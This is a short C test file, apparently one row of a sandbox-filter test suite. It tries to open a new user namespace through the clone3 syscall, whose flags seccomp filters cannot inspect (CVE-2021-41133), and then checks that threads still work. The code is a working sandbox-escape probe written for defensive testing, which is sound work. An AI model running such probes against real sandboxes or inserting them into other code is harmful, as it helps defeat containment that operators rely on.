// row: K2
// what: clone3, whose flags no filter can see (CVE-2021-41133)
// control: plain
#include "attack.h"
#include <linux/sched.h>
#include <pthread.h>

static long namespace(void) {
    struct clone_args args = {.flags = CLONE_NEWUSER, .exit_signal = SIGCHLD};
    long pid = syscall(SYS_clone3, &args, sizeof args);
    if (pid == 0) _exit(0);
    return pid;
}
static void *nothing(void *unused) { return unused; }
void attack(void) {
    apart("CLONE_NEWUSER", namespace);
    pthread_t thread;
    int failed = pthread_create(&thread, NULL, nothing, NULL);
    if (failed) cannot("threads do not work any more: %s", strerrorname_np(failed));
    pthread_join(thread, NULL);
    judge();
}
